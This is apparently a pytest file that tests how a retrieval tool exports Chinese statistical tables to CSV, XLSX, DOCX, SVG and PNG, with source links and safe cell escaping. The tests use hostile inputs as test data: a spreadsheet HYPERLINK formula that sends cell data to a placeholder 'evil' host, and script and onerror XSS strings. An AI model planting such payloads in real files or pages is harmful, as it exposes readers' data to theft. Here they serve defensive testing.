"""Tables of figures as files: nothing in them is a formula, every value leads to its source."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from openpyxl import load_workbook

from rag.domain import Passage
from rag.errors import UsageError
from rag.figures.asked import ask
from rag.figures.read import read_all
from rag.figures.selection import select
from rag.figures.table import Table, laid_out
from tests.rag.figures.making import passage
from ui.figures.chart import Text, chart
from ui.figures.columns import empty_line
from ui.figures.exports import MEDIA, export, write
from ui.figures.sheet import safe

HOSTILE = '=HYPERLINK("http://evil/?"&A1,"点我")'


def laid(held: list[Passage], question: str) -> Table:
    figures = list(read_all(held))
    return laid_out(select(figures, ask(question)), figures, {p.id: p for p in held})


def table(question: str = "财政收入", *, title: str = "题目") -> Table:
    held = [
        passage("财政收入由6.9亿元增长到8.76亿元。", name="a", title=title),
        passage("2020年财政收入7亿元。", name="b", place="新宁县", title="<script>alert(1)</script>"),
        passage("2019年财政收入6亿元。", name="c", place="新宁县"),
    ]
    return laid(held, question)


def test_csv_is_utf8_with_every_row_remark_and_source() -> None:
    rows = list(csv.reader(io.StringIO(export(table(), "csv").decode("utf-8-sig"))))
    assert rows[0][0] == "指标" and [r[4] for r in rows[1:5]] == ["600000000", "700000000", "690000000", "876000000"]
    assert any(r[0] == "[1]" for r in rows)


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "＝"])
def test_no_cell_of_a_csv_is_a_formula(sign: str) -> None:
    made = export(table(title=sign + HOSTILE), "csv").decode("utf-8-sig")
    for row in csv.reader(io.StringIO(made)):
        assert not any(cell.startswith(("=", "+", "@", "＝")) for cell in row)


def test_xlsx_has_no_formula_and_links_each_row_to_its_source() -> None:
    book = load_workbook(io.BytesIO(export(table(title=HOSTILE), "xlsx")))
    assert book.sheetnames == ["数据", "出处", "计算"]
    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows() for cell in row)
    first, sources = book.worksheets[:2]
    assert [first.cell(r, 5).value for r in range(2, 6)] == [600000000, 700000000, 690000000, 876000000]
    for r in range(2, 6):
        link = first.cell(r, 4).hyperlink
        assert link is not None and link.location is None or link.location.startswith("'出处'!A")
        row = int((link.location or link.target).rsplit("A", 1)[1])
        assert f"[{row - 1}]" in first.cell(r, 12).value and sources.cell(row, 1).value == f"[{row - 1}]"
    assert HOSTILE in [c.value for c in sources["B"]]
    assert any("÷" in str(c.value) for c in book["计算"]["B"])


def test_docx_holds_the_table_and_the_words_it_is_cited_to() -> None:
    from docx import Document

    document = Document(io.BytesIO(export(table(), "docx")))
    cells = [c.text for row in document.tables[0].rows for c in row.cells]
    assert "8.76亿元" in cells and "26.96%" in cells
    text = "\n".join(p.text for p in document.paragraphs)
    assert "财政收入由6.9亿元增长到8.76亿元" in text and "<script>" in text


def test_svg_is_xml_without_script_and_names_places_and_unit() -> None:
    root = ET.fromstring(export(table(), "svg"))
    words = "".join(root.itertext())
    assert "新宁县" in words and "亿元" in words
    assert not [e for e in root.iter() if e.tag.endswith(("script", "image", "foreignObject"))]


def test_png_is_an_image_that_is_not_blank() -> None:
    from PIL import Image

    image = Image.open(io.BytesIO(export(table(), "png")))
    assert image.format == "PNG" and image.width > 900 and len(image.convert("L").getcolors(100_000) or []) > 10


def test_a_png_without_a_font_says_what_is_missing(monkeypatch: pytest.MonkeyPatch) -> None:
    from ui.figures import drawing

    monkeypatch.setattr(drawing, "_installed", lambda: iter(()))
    drawing._font.cache_clear()
    with pytest.raises(drawing.NoFont, match="没有中文字体"):
        export(table(), "png")
    drawing._font.cache_clear()


@pytest.mark.parametrize("kind", sorted(MEDIA))
def test_an_empty_table_is_a_file_that_says_so_or_a_clear_error(kind: str) -> None:
    empty = table("火星移民")
    if kind in ("svg", "png"):
        with pytest.raises(UsageError, match="没有可以画的数据"):
            export(empty, kind)
    else:
        assert export(empty, kind)


def test_a_file_that_cannot_be_written(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="写不了"):
        write(table(), "csv", tmp_path / "没有" / "a.csv")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("-1.08%", "-1.08%"),
        ("-6,000", "-6,000"),
        ("-6000吨", "\u22126000吨"),
        ("-1+1", "'-1+1"),
        ("-6000吨+A1", "'-6000吨+A1"),
        ("-A1", "'-A1"),
        ("+1", "'+1"),
    ],
)
def test_a_fall_is_written_as_a_number_and_nothing_else_is(cell: str, expected: str) -> None:
    assert safe(cell) == expected


def test_the_unit_of_a_chart_is_that_of_what_is_drawn() -> None:
    held = [
        passage("2021年新增就业7020人。", name="a", place="新宁县"),
        passage("2022年新增就业7245人。", name="b", place="新宁县"),
        passage("2022年新增就业32.46万人。", name="c", place="湖南省"),
    ]
    drawn = chart(laid(held, "新增就业"))
    assert drawn is not None and drawn.title == "新增就业（单位：人）"
    axis, first = 90.0, [s for s in drawn.shapes if isinstance(s, Text) and s.words == "7020"]
    assert len(first) == 1 and first[0].x > axis + 20, "clear of the numbers beside the axis"


@pytest.mark.parametrize("question", ["<img src=x onerror=alert(1)>", "各县 a b c 指标", "没有人报告过的指标"])
def test_what_is_not_held_is_named_as_it_was_written(question: str) -> None:
    said = empty_line(laid([], question))
    (named,) = re.findall("“(.*)”", said)
    assert named and named in question
